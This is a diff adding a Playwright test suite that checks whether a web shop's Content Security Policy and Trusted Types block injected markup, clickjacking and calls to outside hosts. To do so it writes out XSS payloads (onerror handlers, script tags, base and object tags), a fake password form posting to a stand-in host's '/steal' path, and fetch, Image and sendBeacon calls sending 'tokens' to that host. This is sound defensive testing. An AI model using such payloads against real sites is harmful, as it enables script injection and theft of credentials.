@@ -1,0 +1,134 @@
+import type { Page } from 'playwright/test';
+import { expect, test } from './fixtures.ts';
+
+test.beforeEach(({ expected }) => {
+  expected.push(/Content Security Policy|TrustedHTML|TrustedScript/i);
+});
+
+/** What somebody who got a foothold would do with a text. */
+const sinks: Record<string, (text: string) => unknown> = {
+  innerHTML: (text) => {
+    document.body.innerHTML = text;
+  },
+  outerHTML: (text) => {
+    document.body.outerHTML = text;
+  },
+  insertAdjacentHTML: (text) => document.body.insertAdjacentHTML('beforeend', text),
+  'document.write': (text) => document.write(text),
+  createContextualFragment: (text) => document.createRange().createContextualFragment(text),
+  DOMParser: (text) => new DOMParser().parseFromString(text, 'text/html'),
+  srcdoc: (text) => {
+    document.createElement('iframe').srcdoc = text;
+  },
+  'the text of a script': (text) => {
+    document.createElement('script').text = text;
+  },
+  'the address of a script': () => {
+    document.createElement('script').src = '/other.js';
+  },
+  // biome-ignore lint/security/noGlobalEval: what must not work
+  eval: (text) => eval(text),
+  'a timer': (text) => setTimeout(text),
+  'a policy of its own': () =>
+    (
+      window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
+    ).trustedTypes.createPolicy('default', {}),
+};
+
+for (const [name, sink] of Object.entries(sinks)) {
+  test(`a text given to ${name} throws`, async ({ page, trespasses }) => {
+    await page.goto('/about');
+    const before = await page.locator('body').innerHTML();
+    // A moment later: what a debugger evaluates may evaluate, too.
+    const thrown = await page.evaluate(`new Promise((resolve) => setTimeout(() => {
+      try { resolve((${sink})('<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>')); } catch (error) { resolve(error.name); }
+    }))`);
+    expect(['TypeError', 'EvalError']).toContain(thrown);
+    expect(await page.locator('body').innerHTML()).toBe(before);
+    await expect.poll(() => trespasses.violations.length).toBeGreaterThan(0);
+    trespasses.violations = [];
+  });
+}
+
+/** A page of the shop into whose markup somebody got. */
+async function injected(page: Page, markup: string): Promise<void> {
+  await page.route('/about', async (route) => {
+    const response = await route.fetch();
+    const body = (await response.text()).replace('</h1>', `</h1>${markup}`);
+    await route.fulfill({ response, body });
+  });
+  await page.goto('/about');
+  await page.waitForLoadState('networkidle');
+}
+
+const AWAY = 'https://elsewhere.example';
+
+for (const [what, markup] of [
+  ['a script', '<script>window.hacked = 1</script>'],
+  ['a script of another host', `<script src="${AWAY}/a.js"></script>`],
+  ['a handler', '<img src="/missing.png" onerror="window.hacked = 1" alt="">'],
+  ['a style', '<style>h1 { display: none }</style>'],
+  ['a style attribute', '<p style="position: fixed">Sign in</p>'],
+  ['a style sheet of another host', `<link rel="stylesheet" href="${AWAY}/a.css">`],
+  ['a picture of another host', `<img src="${AWAY}/a.png" alt="">`],
+  ['a picture in the address', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="">'],
+  ['a frame', `<iframe src="${AWAY}/"></iframe>`],
+  ['an object', `<object data="${AWAY}/a.swf"></object>`],
+  ['a base', `<base href="${AWAY}/">`],
+] as const) {
+  test(`${what} that got into the markup does nothing`, async ({ page, expected, trespasses }) => {
+    expected.push(/status of 404/);
+    // Whatever is asked of another host after all gets an answer that would run.
+    await page.route(`${AWAY}/**`, (route) => route.fulfill({ contentType: 'text/javascript', body: 'hacked = 1' }));
+    await injected(page, markup);
+    await expect.poll(() => trespasses.violations.length).toBeGreaterThan(0);
+    await expect.poll(() => trespasses.strangers).toEqual([]);
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+    expect(await page.evaluate(() => document.baseURI)).not.toContain(AWAY);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    trespasses.violations = [];
+  });
+}
+
+test('a form that got into the markup sends nothing to another host', async ({ page, trespasses }) => {
+  await injected(page, `<form action="${AWAY}/steal"><input name="password"><button>Sign in here</button></form>`);
+  await page.getByRole('button', { name: 'Sign in here' }).click();
+  await expect.poll(() => trespasses.violations.join()).toContain('form-action');
+  expect(trespasses.strangers).toEqual([]);
+  trespasses.violations = [];
+});
+
+test('a script of the shop that was taken over tells nobody', async ({ page, trespasses }) => {
+  await page.goto('/about');
+  const sent = await page.evaluate(async (address) => {
+    const tries = [
+      fetch(address, { method: 'POST', body: 'tokens' }),
+      new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: reject, src: address })),
+    ];
+    return (await Promise.allSettled(tries))
+      .map(({ status }) => status)
+      .concat(String(navigator.sendBeacon(address, 'tokens')));
+  }, `${AWAY}/`);
+  expect(sent.slice(0, 2)).toEqual(['rejected', 'rejected']);
+  await expect.poll(() => trespasses.violations.length).toBeGreaterThan(2);
+  await expect.poll(() => trespasses.strangers).toEqual([]);
+  trespasses.violations = [];
+});
+
+test('no other site shows the shop in a frame', async ({ page, origins, trespasses, baseURL }) => {
+  origins.push(AWAY);
+  await page.route(`${AWAY}/`, (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/about"></iframe>` }),
+  );
+  await page.goto(`${AWAY}/`);
+  await page.waitForLoadState('networkidle');
+  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
+  trespasses.violations = [];
+});
+
+test('a host that is not on the inventory is noticed', async ({ page, trespasses }) => {
+  await page.route(`${AWAY}/`, (route) => route.fulfill({ contentType: 'text/html', body: 'Hello' }));
+  await page.goto(`${AWAY}/`);
+  expect(trespasses.strangers).toEqual([`document ${AWAY}/`]);
+  trespasses.strangers = [];
+});
